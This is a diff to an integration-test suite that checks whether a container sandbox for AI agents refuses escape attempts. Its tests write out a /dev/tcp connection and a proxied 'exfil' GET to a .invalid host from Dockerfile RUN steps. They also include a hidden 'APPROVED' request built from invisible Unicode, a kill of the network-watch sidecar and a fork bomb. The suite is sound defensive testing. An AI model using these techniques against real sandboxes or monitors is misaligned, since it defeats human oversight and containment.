@@ -17,7 +17,7 @@ import type { AddressInfo } from 'node:net';
 import { networkInterfaces, tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { isDeepStrictEqual } from 'node:util';
-import type Docker from 'dockerode';
+import Docker from 'dockerode';
 import { Redis } from 'ioredis';
 import { DEFAULT_LIMITS, planLimits } from '../../src/plan/default-limits.js';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -25,7 +25,11 @@ import { escapeTable, type EscapeRow } from '../../bench/escape.bench.js';
 import type { LifecycleEvent } from '../../src/events/schema.js';
 import { CAPABILITY_BURST } from '../../src/gateway/capability-routes.js';
 import { DIRECT_RECORDS_PER_MINUTE } from '../../src/shared/netwatch-report.js';
+import { buildBehindGateway, proxiedRequestRun, startBridgeListener } from '../support/build-egress.js';
 import { execIn } from '../support/docker.js';
+import { pidsProbe, PIDS } from '../support/pids-probe.js';
+import { killSidecar } from '../support/sidecar-kill.js';
+import { bigTranscriptOutcome, MAKE_BIG_TRANSCRIPT } from '../support/transcript-limit.js';
 import { redisKeysHolding } from '../support/launch-secrets.js';
 import { generateHostKeyPair, hostKeyId } from '../../src/shared/sealed-secrets.js';
 import { identityFrom, PIN_DEFAULT_HOSTS, REPO, startHarness, type BottleHarness } from '../support/cli-harness.js';
@@ -399,6 +403,82 @@ describe('escape attempts refused on the host, before any bottle runs', () => {
       redis.disconnect();
     }
   }, 240_000);
+});
+
+/**
+ * Finding 21.3: a Dockerfile's RUN (a bottle's own, or an approved change) used to run on Docker's default
+ * build network. Builds do not run under the bottle's runtime (the daemon's builder runs RUN steps with runc),
+ * so these rows are the builder's, once. The direct target is a listener of this test's own on Docker's
+ * default bridge, where RUN steps used to run; the refused fetch names a `.invalid` host.
+ */
+describe('escape attempts from a Dockerfile RUN step are refused (finding 21.3)', () => {
+  const docker = new Docker();
+  const identity = `buildesc-${randomBytes(3).toString('hex')}`;
+  let target: Awaited<ReturnType<typeof startBridgeListener>>;
+  const tags: string[] = [];
+
+  beforeAll(async () => {
+    target = await startBridgeListener(docker, identity);
+  });
+  afterAll(async () => {
+    for (const tag of tags)
+      await docker
+        .getImage(tag)
+        .remove({ force: true })
+        .catch(() => undefined);
+    await target?.remove().catch(() => undefined);
+  });
+
+  function row(attempt: string, outcome: Omit<EscapeRow, 'runtime' | 'finding' | 'attempt'>): void {
+    ledger.push({ runtime: 'build', finding: '21.3', attempt, ...outcome });
+  }
+
+  it('finding 21.3: a RUN that connects directly fails the build; nothing reaches the target', async () => {
+    const attempt = await buildBehindGateway(
+      docker,
+      identity,
+      `FROM debian:bookworm-slim\nRUN bash -c 'exec 3<>/dev/tcp/${target.ip}/${target.port} && echo canary >&3'\n`,
+    );
+    tags.push(attempt.tag);
+    const reached = await target.accepted();
+    row('RUN bash /dev/tcp to a container on the default bridge', {
+      refused: !attempt.built && reached === 0,
+      // Nothing sees a packet that has no route: the build's failure (effect.failed) is what the log shows.
+      recorded: null,
+      leaked: reached > 0,
+      note: `build failed: ${attempt.built ? 'no' : 'yes'}; build resources left: ${attempt.leftovers.length}`,
+    });
+    expect(attempt.built).toBe(false);
+    expect(reached).toBe(0);
+    expect(attempt.leftovers).toEqual([]);
+  }, 180_000);
+
+  it('finding 21.3: a proxied canary to an unlisted host is refused and recorded, an allowed fetch too', async () => {
+    const attempt = await buildBehindGateway(
+      docker,
+      identity,
+      [
+        'FROM debian:bookworm-slim',
+        proxiedRequestRun('HEAD', 'http://deb.debian.org/debian/dists/bookworm/Release'),
+        proxiedRequestRun('GET', 'http://canary.invalid/exfil?canary=21.3'),
+        '',
+      ].join('\n'),
+    );
+    tags.push(attempt.tag);
+    const shown = attempt.events.map((e) => e.data as { decision: string; host: string; method: string });
+    const refused = shown.some((d) => d.decision === 'denied' && d.host === 'canary.invalid');
+    const fetched = shown.some((d) => d.decision === 'allowed' && d.host === 'deb.debian.org');
+    row('RUN: proxied GET of an unlisted .invalid host (and a HEAD of the Debian mirror)', {
+      refused,
+      recorded: refused && fetched,
+      leaked: shown.some((d) => d.decision === 'allowed' && d.host === 'canary.invalid'),
+      note: `build.egress events: ${shown.map((d) => `${d.decision} ${d.method} ${d.host}`).join(', ')}`,
+    });
+    expect(attempt.error).toBeNull();
+    expect(refused).toBe(true);
+    expect(fetched).toBe(true);
+    expect(attempt.leftovers).toEqual([]);
+  }, 180_000);
 });
 
 describe.each(RUNTIMES)('escape attempts from inside a real bottle under %s are refused', (runtime) => {
@@ -1157,6 +1237,29 @@ describe.each(RUNTIMES)('escape attempts from inside a real bottle under %s are 
       expect(requested).toEqual([]);
     });
 
+    it('finding 21.7: a reason with U+200B, U+202E and tag characters is refused (400), no event', async () => {
+      const at = await mark();
+      // Zero-width space, right-to-left override, and "APPROVED" in tag characters (invisible when drawn).
+      const hidden = [...'APPROVED'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
+      const reason = `need docs\u200b.test \u202egro.ipyp\u202c${hidden}`;
+      const [answer] = await postAsks([JSON.stringify({ kind: 'egress', host: 'docs.test', reason })]);
+      await barrier();
+      const requested = await eventsAfter(at, 'capability.requested');
+      const issues = (JSON.parse(answer.body) as { issues?: string[] }).issues ?? [];
+      const shown = await h.cli(['events', identity]);
+      const raw = /[\u200b\u202e\u{e0000}-\u{e007f}]/u.exec(shown.stdout);
+      row('21.7', 'capability reason with U+200B, U+202E and tag characters', {
+        refused: answer.status === 400 && issues.join(' ').includes('invisible'),
+        recorded: false,
+        leaked: requested.length > 0 || raw !== null,
+        note: 'refused at the endpoint (a refused ask is no event); shown text is escaped (visible-text unit tests)',
+      });
+      expect(answer.status).toBe(400);
+      expect(issues.join(' ')).toMatch(/^reason: .*invisible characters are refused/);
+      expect(requested).toEqual([]);
+      expect(raw).toBeNull();
+    });
+
     it('finding 5: 20 capability asks in a row: the budget of 4 is spent, then 429 rate limited', async () => {
       const at = await mark();
       // Only accepted asks spend the budget: the ones refused above gave their tokens back.
@@ -1438,4 +1541,92 @@ describe.each(RUNTIMES)('escape attempts from inside a real bottle under %s are 
     const all = await h.cli(['events', identity, '--format', 'json']);
     expect(all.stdout).not.toContain(secret);
   });
+
+  // Last: it stops the bottle.
+  it('finding 21.5: a 1 GiB transcript file is skipped and recorded; nothing big lands on the host', async () => {
+    const made = await inAgent(`${MAKE_BIG_TRANSCRIPT} && echo made`);
+    expect(made.output).toContain('made');
+    const stopped = await h.cli(['stop', identity]);
+    const events = await h.waitForEvent(identity, 'bottle.preserved', 120_000);
+    const outcome = bigTranscriptOutcome(h.home, identity, events);
+    row('21.5', 'truncate -s 1G ~/.claude/big.jsonl, then bottle stop', {
+      refused: !outcome.copied && outcome.stateKib < 10 * 1024 && outcome.partials.length === 0,
+      recorded: outcome.skippedEvent,
+      leaked: outcome.copied,
+      note: `the bottle's state folder holds ${outcome.stateKib} KiB after the snapshot`,
+    });
+    expect(stopped.code, stopped.stderr).toBe(0);
+    expect(outcome).toMatchObject({ skippedEvent: true, copied: false, partials: [] });
+    expect(outcome.stateKib).toBeLessThan(10 * 1024);
+  }, 180_000);
+});
+
+/**
+ * Findings 21.6 and 21.8 need bottles of their own (the first ends its bottle, the second sets a limit):
+ * the reproductions of their dedicated tests (sidecar-exit, pids-limit), through the same helpers.
+ */
+describe.each(RUNTIMES)('findings 21.6 and 21.8: a killed watch and a fork bomb under %s', (runtime) => {
+  let h: BottleHarness;
+  let manifest: string;
+  // PID 1 ignores signals it has no handler for; the agent traps TERM so a stop ends it promptly.
+  const stoppable = ['bash', '-c', 'trap "exit 143" TERM; sleep 600 & wait'];
+
+  beforeAll(async () => {
+    h = await startHarness({ env: { CLAUDE_BOTTLE_RUNTIME: runtime } });
+    manifest = h.writeManifest({
+      bottles: [
+        { name: 'watched', egress: { allow: [] }, extra_hosts: PIN_DEFAULT_HOSTS },
+        { name: 'limited', egress: { allow: [] }, extra_hosts: PIN_DEFAULT_HOSTS, limits: { pids: PIDS } },
+      ],
+      agents: [
+        { name: 'sleeper', bottle: 'watched', command: stoppable },
+        { name: 'procs', bottle: 'limited', command: stoppable },
+      ],
+    });
+  }, 60_000);
+  afterAll(async () => {
+    await h?.cleanup();
+  }, 120_000);
+
+  function row(finding: string, attempt: string, outcome: Omit<EscapeRow, 'runtime' | 'finding' | 'attempt'>): void {
+    ledger.push({ runtime, finding, attempt, ...outcome });
+  }
+
+  it('finding 21.6: docker kill of the network watch ends the bottle preserved, with an event', async () => {
+    const identity = identityFrom(await h.cli(['--manifest', manifest, 'start', 'sleeper', '--detach']));
+    await h.waitForEvent(identity, 'netwatch.started');
+    const killed = await killSidecar(h, identity, 'netwatch');
+    const runningAfter = killed.seen.some((s) => s.startsWith('running'));
+    const preserved = killed.preservedReason?.reason === 'enforcement_lost';
+    row('21.6', 'docker kill of the network watch', {
+      refused: preserved && !runningAfter,
+      recorded: killed.exit.type === 'sidecar.exited',
+      leaked: runningAfter,
+      note: `recorded ${killed.unrecordedMs} ms after the kill; list showed ${[...new Set(killed.seen)].join(', ')}`,
+    });
+    expect(killed.exit.data).toMatchObject({ role: 'netwatch', code: 137, signal: 'SIGKILL' });
+    expect(runningAfter).toBe(false);
+    expect(preserved).toBe(true);
+  }, 240_000);
+
+  it('finding 21.8: with limits.pids 256, 100 processes run and a fork bomb stops at the limit', async () => {
+    const started = await h.cli(['--manifest', manifest, 'start', 'procs', '--detach']);
+    expect(started.code, started.stderr).toBe(0);
+    const identity = identityFrom(started);
+    await h.waitForEvent(identity, 'agent.started');
+    const probe = await pidsProbe(h.docker.getContainer(`cb-${identity}-agent`));
+    const exited = (await h.log.read(identity)).some((e) => e.type === 'agent.exited');
+    row('21.8', 'limits.pids 256: 100 concurrent processes, then a fork bomb', {
+      refused: probe.hundredRan && probe.bombStoppedAtLimit && probe.stillRunning && !exited,
+      // A refused fork is the agent's own kernel's answer (EAGAIN): nothing outside sees it.
+      recorded: null,
+      leaked: false,
+      note: `pids cgroup peak ${probe.hundredPeak} with 100 sleeps, ${probe.bombPeak} in the bomb; still running`,
+    });
+    expect(probe.hundredRan).toBe(true);
+    expect(probe.bombStoppedAtLimit).toBe(true);
+    expect(probe.stillRunning).toBe(true);
+    expect(probe.forksAfter).toBe(true);
+    expect(exited).toBe(false);
+  }, 240_000);
 });
